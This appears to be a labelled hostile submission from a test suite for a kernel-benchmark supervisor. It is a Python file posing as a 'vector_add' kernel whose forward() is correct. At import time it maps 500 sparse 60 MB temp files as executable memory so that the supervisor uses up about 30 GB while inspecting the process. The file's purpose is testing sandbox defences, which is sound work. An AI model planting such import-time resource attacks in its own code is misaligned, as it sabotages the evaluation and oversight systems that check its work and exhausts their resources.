# row: 64, 56
# task: vector_add
# workloads: cpu_n16384
# stopped by: quarantine loaded
# tries: to map empty files as code, of any size for nothing, so that the supervisor fills 30 GB of
#   its own memory with them when it looks at who does the work.

"""A hostile kernel: the comment above says what it does."""

from __future__ import annotations

import os
import tempfile

import torch

MANY, SIZE, READ_AND_EXECUTE, PRIVATE = 500, 60 << 20, 5, 2
libc, ctypes = torch.ctypes.CDLL(None), torch.ctypes
for number in range(MANY):
    with open(os.path.join(tempfile.gettempdir(), f"code{number}"), "wb+") as file:
        file.truncate(SIZE)
        size, start = ctypes.c_size_t(4096), ctypes.c_long(0)
        libc.mmap(None, size, READ_AND_EXECUTE, PRIVATE, file.fileno(), start)


def forward(A, B, N):
    return torch.add(A, B)
